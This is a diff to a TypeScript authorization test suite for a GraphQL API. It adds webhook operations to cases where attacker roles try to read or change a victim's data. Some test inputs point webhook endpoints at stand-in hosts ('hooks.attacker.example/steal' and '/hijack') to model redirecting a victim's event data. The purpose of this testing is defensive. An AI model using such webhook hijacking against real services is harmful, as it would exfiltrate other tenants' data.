@@ -17,6 +17,7 @@ import { createCustomer, customerInput, uniqueMpnId } from './support/factories'
 import { accept, invite, standaloneCustomer } from './support/invitations';
 import { partner } from './support/partnerships';
 import { startTestServer, type TestServer } from './support/test-server';
+import { createEndpoint, deliveries, startReceiver, until } from './support/webhooks';
 
 /**
  * Every operation of the schema, called by callers that have no business with a victim's data,
@@ -41,6 +42,7 @@ interface Victim {
   invitation: string;
   partnership: string;
   request: string;
+  webhook: { endpoint: string; url: string; delivery: string };
 }
 
 type Vars = (v: Victim) => Record<string, unknown>;
@@ -104,6 +106,13 @@ const CASES: Record<string, OperationCase> = {
       (v) => ({ input: { subscriptionId: v.privateSubscription, quantity: 9 } }),
     ],
   },
+  webhookEndpoints: { variables: [() => ({ first: 20 })] },
+  createWebhookEndpoint: { variables: [() => ({ input: { url: 'https://hooks.attacker.example/steal', eventTypes: ['CUSTOMER_CREATED'] } })] },
+  updateWebhookEndpoint: {
+    variables: [(v) => ({ input: { endpointId: v.webhook.endpoint, url: 'https://hooks.attacker.example/hijack', enabled: true } })],
+  },
+  deleteWebhookEndpoint: { variables: [(v) => ({ input: { endpointId: v.webhook.endpoint } })] },
+  redeliverWebhook: { variables: [(v) => ({ input: { deliveryId: v.webhook.delivery } })] },
   // Subscription: the victim's own events must reach none of the attackers
   invitationAccepted: {
     trigger: async (v) => {
@@ -125,6 +134,7 @@ const ALLOWED_CODES = new Set(['UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND', 'BAD
 const PARTNER_ROLES = [Role.GLOBAL_ADMIN, Role.ADMIN_AGENT, Role.SALES_AGENT, Role.USER_ADMIN, Role.BILLING_ADMIN];
 
 let t: TestServer;
+let receiver: Awaited<ReturnType<typeof startReceiver>>;
 let schema: GraphQLSchema;
 let victim: Victim;
 let victimId: string;
@@ -167,6 +177,9 @@ beforeAll(async () => {
         input: { customerId, offerId: 'm365-e5', quantity: 4, resellerId: reseller.id, supportContactId: reseller.id },
       })
     ).createSubscription.subscription.id;
+  // the victim's webhook endpoint, with one delivery of its first event
+  receiver = await startReceiver([200]);
+  const webhook = await createEndpoint(t, provider.token, receiver.url, ['INVITATION_CREATED']);
   const { createCustomerInvitation } = await t.client(provider.token).data(CreateCustomerInvitationDocument, {
     input: { includeDelegatedAdminPrivileges: true, customerEmail: 'it@victim-prospect.example' },
   });
@@ -183,6 +196,11 @@ beforeAll(async () => {
     invitation: createCustomerInvitation.invitation.id,
     partnership,
     request: requestPartnership.request.id,
+    webhook: {
+      endpoint: webhook.endpoint.id,
+      url: receiver.url,
+      delivery: (await until('a delivery', () => deliveries(t, provider.token, webhook.endpoint.id), (d) => d.deliveries.length > 0)).deliveries[0].id,
+    },
   };
 
   // the attackers: every role of three unrelated partners (one of them a partner of the shared customer too),
@@ -198,7 +216,10 @@ beforeAll(async () => {
   const stranger = await standaloneCustomer(t);
   attackers.push({ name: 'an unrelated customer admin', token: stranger.token }, { name: 'anonymous' });
 });
-afterAll(() => t.stop());
+afterAll(async () => {
+  await t.stop();
+  await receiver?.stop();
+});
 
 /** Everything the victim side owns, as its own users read it. */
 async function victimView(): Promise<string> {
@@ -210,6 +231,7 @@ async function victimView(): Promise<string> {
     indirectResellers(first: 100) { totalCount edges { node { id status removedAt } } }
     indirectProviders(first: 100) { totalCount edges { node { id status removedAt } } }
     activities(first: 100) { totalCount }
+    webhookEndpoints(first: 20) { totalCount edges { node { id url enabled eventTypes description } } }
   }`;
   const views = await Promise.all(
     [victimToken, resellerToken].map((token) => t.client(token).raw({ query: everything })),
@@ -229,6 +251,7 @@ function secrets(v: Victim): string[] {
     v.customer.id, v.customer.domain, 'Victim Own Customer Corporation',
     v.subscription, v.privateSubscription, v.invitation, v.partnership, v.request,
     'it@victim-prospect.example', 'future@victim-reseller.example',
+    v.webhook.endpoint, v.webhook.url, v.webhook.delivery,
   ];
 }
 
